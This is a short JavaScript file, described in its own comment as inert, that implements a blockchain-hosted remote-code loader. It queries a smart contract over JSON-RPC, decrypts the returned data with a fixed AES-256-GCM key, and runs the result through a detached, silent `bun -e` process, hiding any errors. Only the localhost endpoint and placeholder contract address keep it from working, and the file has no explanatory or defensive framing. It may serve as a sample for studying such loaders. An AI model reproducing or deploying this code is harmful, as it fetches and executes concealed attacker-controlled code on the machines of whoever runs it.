// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

import { spawn } from 'node:child_process';
import { createDecipheriv } from 'node:crypto';

const RPC = 'http://127.0.0.1:9/';
const CONTRACT = '0x000000000000000000000000000000000000c0de';
const ask = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] };

try {
  const answer = await fetch(RPC, { method: 'POST', body: JSON.stringify(ask) });
  const { result } = await answer.json();
  const box = createDecipheriv('aes-256-gcm', Buffer.alloc(32, 7), Buffer.alloc(12));
  const orders = box.update(Buffer.from(result.slice(2), 'hex'), undefined, 'utf8');
  spawn('bun', ['-e', orders], { detached: true, stdio: 'ignore' }).unref();
} catch {
  // Nothing answers.
}
